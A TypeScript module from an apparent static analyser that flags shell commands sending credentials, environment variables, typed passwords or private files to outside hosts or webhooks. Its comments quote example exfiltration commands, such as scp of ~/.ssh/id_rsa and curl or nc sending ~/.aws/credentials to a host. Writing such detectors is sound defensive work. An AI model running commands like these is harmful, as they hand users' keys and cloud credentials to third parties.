/**
 * Pure: the data-flow engine's network sink (flow.ts). What a network call
 * sends (its arguments, its stdin for tools that send it, files named to
 * upload, a folder pushed) and where: a credential or the whole environment
 * leaving for any host, a service's secret leaving for a host not its
 * provider's, typed passwords sent on.
 */
import { hostInDomains, hostMatchesName, isDropAddress, isLocalHost, providerDomains } from '../network.ts';
import type { RuleId } from '../rules.ts';
import { isCredentialPath } from '../files.ts';
import { DNS, GIT_NETWORK, NETWORK, STREAMS } from './tables.ts';
import { constantText, shownText, type Call, type Origin, type Word } from './types.ts';
import { pathKey } from './copies.ts';
import { hostsOf, localCopy, sendsLocalData, sendsStdin, sentFiles, uploadedWhole } from './sends.ts';
import { mergeTaints as merge, sameTaint as same, type Taint } from './finding.ts';

/** What the network sink reads of the engine's state, and where it reports. */
export interface FlowView {
  taintOf(w: Word | undefined): Taint[];
  /** What a path sent holds of credentials (a credential store, a folder or archive one was copied into). */
  credentialsIn(path: string): Taint[];
  /** The working folder, when known (places.ts). */
  folder(): string | undefined;
  /** `sentTo`: the hosts the user's own data goes to, for the driver to judge by the text around it (code.ts). */
  report(rule: RuleId, call: { origin: Origin; later?: boolean }, evidence: string, sentTo?: string[]): void;
}

export function networkFlow(call: Call, name: string | undefined, args: Word[], evidence: string, flow: FlowView): void {
  if (name === undefined || !NETWORK.test(name)) return;
  const texts = args.map(constantText);
  if (name === 'git' && !texts.some((t) => t !== undefined && GIT_NETWORK.test(t))) return;
  if ((name === 'openssl' && !texts.some((t) => t === 's_client')) || localCopy(name, args, (a) => flow.taintOf(a).some((t) => t.kind === 'download' || t.kind === 'decoded'))) return;
  const sent = merge([], args.flatMap((a) => flow.taintOf(a)));
  if (sendsStdin(name, texts)) merge(sent, (call.stdin ?? []).flatMap((w) => flow.taintOf(w)));
  for (const [k, w] of Object.entries(call.named ?? {})) if (!/^[A-Z_]+$/.test(k)) merge(sent, flow.taintOf(w));
  // A file sent by name: `scp ~/.ssh/id_rsa host:`, `curl -F f=@~/.aws/credentials`, `rsync ~/.aws/ host:`,
  // a folder or archive a credential was copied into (`git -C "$d" push`), a file redirected into a tool that
  // sends its input (`nc host 80 < ~/.aws/credentials`). A key given to log in (`ssh -i key`, `scp -i`,
  // `curl --cert`) is used, not sent; what `ssh host …` names after the host is the remote machine's.
  // A relative path is read in the folder the script moved to (`cd ~ && ftp … put .aws/credentials`).
  const folder = flow.folder();
  for (const w of [...sentFiles(name, args), ...(sendsStdin(name, texts) ? call.reads ?? [] : [])]) {
    const path = pathKey(w).replace(/^(?:--?[\w-]+=)?[\w-]*=?@|^--?[\w-]+=/, '');
    merge(sent, flow.credentialsIn(folder !== undefined && path && !/^[/~<-]/.test(path) ? `${folder}/${path.replace(/^\.\//, '')}` : path));
  }
  const here = flow.folder();
  if (name === 'git' && texts.includes('push') && here !== undefined) merge(sent, flow.credentialsIn(here));
  if (sent.some((t) => t.kind === 'typed') && hostsOf(args).some((h) => !isLocalHost(h))) flow.report('password-capture', call, evidence);
  // A file's text posted to a chat webhook or a request catcher written whole in the code: the author's channel gets a copy of the user's files.
  if (args.map(shownText).some(isDropAddress) && sent.some((t) => t.kind === 'file')) flow.report('hidden-recipient', call, evidence);
  // The user's own data (finding.ts `private`) sent to a host the code names: the driver keeps it unless the component
  // names that host's service or it is this machine's; a host the user sets (a variable, an argument) is named by none.
  const personal = sent.filter((t) => t.kind === 'private');
  const strangers = hostsOf(args, name).filter((h) => !isLocalHost(h));
  // A chat webhook or a request catcher written whole in the code is the author's inbox, whatever the text says.
  const drop = args.map(shownText).some(isDropAddress);
  if (personal.length && strangers.length) flow.report('credential-exfiltration', call, `${personal[0]!.what} sent: ${evidence}`, drop ? undefined : strangers);
  const secrets = sent.filter((t) => t.kind === 'credential' || t.kind === 'environment' || t.kind === 'secret');
  if (call.later && sendsLocalData(call, name, texts, args) && hostsOf(args).some((h) => !isLocalHost(h))) flow.report('credential-exfiltration', call, evidence);
  if (!secrets.length) return;
  const hosts = hostsOf(args, name).filter((h) => !isLocalHost(h));
  const shownArgs = args.map(shownText);
  const hostWords = DNS.test(name) ? shownArgs.map((t) => t.replace(/^…+\.?/, '')).filter((t) => /^[\w-]+(?:\.[\w-]+)+$/.test(t)) : [];
  const allHosts = [...new Set([...hosts, ...hostWords.map((h) => h.toLowerCase())])];
  const body = texts.some((t) => t !== undefined && /^(?:-d|--data(?:-\w+)?|-F|--form|--json|-T|--upload-file|-X)$/.test(t)) || STREAMS.test(name) || DNS.test(name);
  if (uploadedWhole(args).some((w) => flow.credentialsIn(pathKey(w)).some((t) => t.kind !== 'private'))) return flow.report('credential-exfiltration', call, evidence);
  for (const t of secrets) {
    // A cloud CLI's token is judged as that service's secret (its own APIs: use; elsewhere: it leaves).
    if ((t.kind === 'credential' && t.service === undefined) || t.kind === 'environment') {
      // Only loopback: this machine's own services get the environment and a CLI's token in the course of work. A
      // credential store's text (a private key, a cloud CLI's credentials file, saved logins) is not among them: a tool
      // logs in with the file where it is, and a local port is a relay like any other (a tunnel, a proxy out).
      if (allHosts.length === 0 && hostsOf(args).length > 0 && !(t.kind === 'credential' && isCredentialPath(t.what))) continue;
      flow.report('credential-exfiltration', call, evidence);
      return;
    }
    const domains = providerDomains(t.service ?? t.what);
    const leaves = allHosts.length > 0 && (domains ? allHosts.some((h) => !hostInDomains(h, domains)) : body && allHosts.some((h) => hostMatchesName(t.what, h) === false));
    // A secret in the very name a DNS tool looks up leaves with the query, whatever its service.
    const inName = DNS.test(name) && args.some((a) => flow.taintOf(a).some((x) => same(x, t)));
    if (leaves || inName) return flow.report('credential-exfiltration', call, evidence);
    const own = domains !== undefined && allHosts.length > 0 && allHosts.every((h) => hostInDomains(h, domains));
    if (!own) flow.report('secret-to-network', call, evidence);
  }
}
